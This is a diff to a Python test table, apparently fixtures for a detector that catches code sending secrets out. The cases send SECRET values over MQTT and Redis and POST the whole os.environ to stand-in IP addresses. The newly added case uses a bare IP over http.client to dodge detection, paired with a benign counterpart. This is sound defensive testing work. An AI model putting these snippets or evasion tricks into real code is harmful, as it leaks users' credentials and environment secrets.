@@ -238,6 +238,13 @@ CASES = (
     _sent("message queue", "import paho.mqtt.publish as p\np.single('t', SECRET, hostname='192.0.2.7')\n"),
     _sent("redis", "import redis\nredis.Redis('192.0.2.7').set('k', SECRET)\n"),
     evasion(
+        "through a connection whose address has no name",
+        "import http.client, json, os\n\ndef check():\n    link = http.client.HTTPConnection('203.0.113.9')\n"
+        "    link.request('POST', '/c', json.dumps(dict(os.environ)))\n",
+        "import http.client, json\n\ndef check():\n    link = http.client.HTTPConnection('api.example.invalid')\n"
+        "    link.request('POST', '/c', json.dumps({'ok': True}))\n",
+    ),
+    evasion(
         "to an address that a variable may change",
         "import os, requests\nP = os.environ.get('EXAMPLE_PLACE', 'https://203.0.113.9/c')\n"
         "def check():\n    requests.post(P, json=dict(os.environ))\n",
